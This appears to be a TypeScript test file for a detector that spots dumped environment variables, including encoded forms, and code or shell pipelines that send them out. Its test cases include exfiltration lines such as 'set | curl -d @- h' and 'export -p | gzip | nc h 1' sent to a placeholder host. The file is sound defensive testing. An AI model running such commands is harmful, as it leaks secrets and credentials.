import assert from "node:assert/strict";
import { test } from "node:test";
import { gzipSync } from "node:zlib";
import {
  holdsEnvironment,
  pipesVariables,
  takesEnvironment,
} from "../../src/signatures/environment_text.ts";

const environment =
  "SHELL=/bin/sh\nPWD=/home/ci/app\nHOME=/home/ci\nPATH=/usr/bin:/bin\nTOKEN=abc\n";
const base64 = (text: string | Buffer) => Buffer.from(text).toString("base64");
const json = JSON.stringify({
  HOME: "/home/ci",
  PATH: "/usr/bin:/bin",
  USER: "ci",
  TERM: "xterm",
  X: 1,
});

for (const [what, text] of [
  ["lines", `start <<< ENV ${environment}`],
  ["lines of a shell", environment.replaceAll(/^/gm, "declare -x ")],
  ["JSON", json],
  ["base64", base64(environment)],
  ["base64 twice", base64(base64(environment))],
  ["base64 of gzip", base64(gzipSync(`${environment.repeat(3)}A=1\nB=2`))],
  ["hexadecimal", Buffer.from(environment).toString("hex")],
  ["a question of a URL", `https://h/?${new URLSearchParams({ e: environment })}`],
  ["base64 in a URL", `https://h/?q=${encodeURIComponent(base64(environment))}`],
] as const) {
  test(`an environment is found in ${what}`, () => assert.ok(holdsEnvironment(text)));
}

for (const [what, text] of [
  ["one variable", `PATH=${"/usr/bin:".repeat(20)}`],
  ["other names", '{"path": "/usr/bin", "home": "/home", "user": "x", "pwd": "secret12345678"}'],
  ["a token", base64("x".repeat(200))],
  [
    "what is called packed",
    base64(Buffer.concat([Buffer.from([0x1f, 0x8b]), Buffer.alloc(90, 7)])),
  ],
  ["nothing", ""],
] as const) {
  test(`no environment is found in ${what}`, () => assert.ok(!holdsEnvironment(text)));
}

for (const code of [
  "print(dict(os.environ))",
  "post(u, data=str(os.environ))",
  "json.dumps(dict(os.environ))",
  "for k, v in os.environ.items(): send(k, v)",
  "fetch(u, {body: JSON.stringify(process.env)})",
  "Object.entries(process.env).map(f)",
  'print join "\\n", map { "$_=$ENV{$_}" } keys %ENV',
  "post(ENV.to_h.to_json)",
  "echo json_encode($_SERVER);",
]) {
  test(`${code} takes the environment`, () => assert.ok(takesEnvironment(code)));
}

for (const code of [
  'os.environ["A"]',
  "run(x, env=dict(os.environ))",
  "dict(os.environ, A=1)",
  "if 'CI' in os.environ: x = 1",
  "e = os.environ.copy()",
  "spawn(x, { env: { ...process.env, A: 1 } })",
  "process.env.HOME",
  "print $ENV{HOME}",
  "ENV['HOME']",
  "getenv('HOME')",
]) {
  test(`${code} takes no environment`, () => assert.ok(!takesEnvironment(code)));
}

test("a shell pipes its variables to who sends them, or to others", () => {
  const texts = [
    "set | curl -d @- h",
    "cd x; export -p | gzip | nc h 1",
    "declare -x|base64|wget h",
  ];
  const others = [
    "set -e; echo | curl h",
    "set | grep A; curl h",
    "export A=1 | curl h",
    "reset | nc h",
  ];

  assert.deepEqual([...texts, ...others].map(pipesVariables), [
    ...[true, true, true],
    ...[false, false, false, false],
  ]);
});
